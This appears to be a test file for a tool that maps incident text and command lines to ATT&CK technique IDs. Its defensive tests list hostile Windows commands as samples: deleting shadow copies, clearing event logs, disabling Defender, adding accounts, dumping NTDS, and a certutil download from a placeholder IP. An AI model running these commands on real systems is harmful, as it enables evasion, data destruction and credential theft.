import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { isTechniqueId } from "../../core/attack/attack.ts";
import { loadAttackCatalogue } from "../../knowledge/attack.ts";
import { commandEntries, commandTechniques } from "./command-technique.ts";
import { entryAndExecution } from "./lexicon/entry-and-execution.ts";
import { hidingAndHarm } from "./lexicon/hiding-and-harm.ts";
import { parseLexicon } from "./lexicon.ts";
import { mapText } from "./map-text.ts";

const catalogue = loadAttackCatalogue();
const first = (text: string) => mapText(text, catalogue)[0]?.id;

describe("the text mapper", () => {
  const sentences: readonly (readonly [string, string])[] = [
    ["T1003.001", "The operator dumped the memory of lsass.exe to harvest passwords."],
    ["T1558.003", "Kerberoasting was attempted: many service tickets with RC4 were requested."],
    ["T1053.005", "Persistence came from a scheduled task that ran every hour."],
    ["T1566.001", "A spearphishing mail with a malicious attachment reached two employees."],
    ["T1071.004", "Commands came back in DNS TXT records, a DNS tunnel."],
    ["T1567.002", "The archive was exfiltrated to cloud storage with rclone."],
    ["T1505.003", "A web shell was left on the mail server."],
    ["T1110.003", "One address tried a single password on many users: password spraying."],
    ["T1490", "Before encryption all shadow copies were deleted."],
    ["T1021.001", "The intruder moved by Remote Desktop."],
    ["T1486", "The ransomware left a ransom note."],
    ["T1078.004", "An AWS console login used the access of an IAM user."],
  ];
  for (const [technique, sentence] of sentences) test(`reads ${technique} in plain words`, () => assert.equal(first(sentence), technique));

  test("takes an id at its word, also a retired one", () => {
    assert.equal(first("Mapped to T1003.006 by the vendor"), "T1003.006");
    assert.equal(first("see t1086"), "T1059.001");
    assert.deepEqual(mapText("T9999 is nothing", catalogue), []);
  });

  test("says nothing of ordinary prose", () => {
    for (const text of [
      "",
      "The meeting is at noon in the large room.",
      "Please find the net result of the quarter.",
      "Lunch menu: soup and bread",
    ])
      assert.deepEqual(mapText(text, catalogue), [], text);
  });

  test("knows a tool by its name, and less by a tool that does many things", () => {
    assert.ok(mapText("They ran pwdump on the server", catalogue).some(({ id }) => id === "T1003.002"));
    assert.ok((mapText("They ran ZeroCleare there", catalogue)[0]?.confidence ?? 0) < 0.5);
  });

  // Guarantees that text from outside never breaks the mapper, and that its answer is ordered and bounded.
  test("gives an ordered, bounded answer to any text, the same each time", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary" }),
          fc.lorem(),
          fc.array(fc.constantFrom("lsass", "T1003", "not", ".", "web shell", "__proto__", "\u0000")).map((words) => words.join(" ")),
        ),
        (text) => {
          const claims = mapText(text, catalogue);
          assert.deepEqual(claims, mapText(text, catalogue));
          assert.ok(claims.length <= 40);
          for (const [index, { id, confidence }] of claims.entries()) {
            assert.ok(isTechniqueId(id) && catalogue.technique(id));
            assert.ok(confidence > 0 && confidence <= 0.97);
            if (index > 0) assert.ok(claims[index - 1]!.confidence >= confidence);
          }
        },
      ),
    );
  });

  test("has a lexicon whose techniques exist", () => {
    for (const { technique } of [...parseLexicon(entryAndExecution), ...parseLexicon(hidingAndHarm)])
      assert.ok(catalogue.current(technique), technique);
    for (const { technique } of commandEntries()) assert.ok(catalogue.technique(technique), technique);
  });
});

describe("commands", () => {
  const commands: readonly (readonly [string, string])[] = [
    ["T1543.003", "sc.exe \\\\server create updater binPath= C:\\Windows\\Temp\\a.exe"],
    ["T1053.005", "schtasks.exe /create /tn Updater /tr a.exe /sc minute"],
    ["T1136.001", "net user helper Secret1! /add"],
    ["T1136.002", "net1 user helper Secret1! /add /domain"],
    ["T1069.002", 'net group "Domain Admins" /domain'],
    ["T1070.001", '"C:\\Windows\\System32\\wevtutil.exe" cl Security'],
    ["T1490", "vssadmin.exe delete shadows /all /quiet"],
    ["T1562.001", "Set-MpPreference -DisableRealtimeMonitoring $true"],
    ["T1482", "nltest /domain_trusts"],
    ["T1003.003", 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'],
    ["T1105", "certutil -urlcache -f http://192.0.2.1/a.exe a.exe"],
    ["T1059.006", '"C:\\Program Files\\Python312\\python.exe" -m http.server 8080'],
    ["T1069.001", "Find-LocalAdminAccess -Threads 20"],
    ["T1049", "Get-NetSession -ComputerName files01"],
  ];
  for (const [technique, command] of commands)
    test(`are read: ${command.slice(0, 40)}`, () => assert.equal(commandTechniques({ CommandLine: command })[0]?.technique, technique));

  test("say nothing where there is none", () => {
    assert.deepEqual(commandTechniques({}), []);
    assert.deepEqual(commandTechniques({ CommandLine: "notepad.exe C:\\notes.txt" }), []);
    assert.deepEqual(commandTechniques({ Other: "schtasks /create" }), []);
  });
});
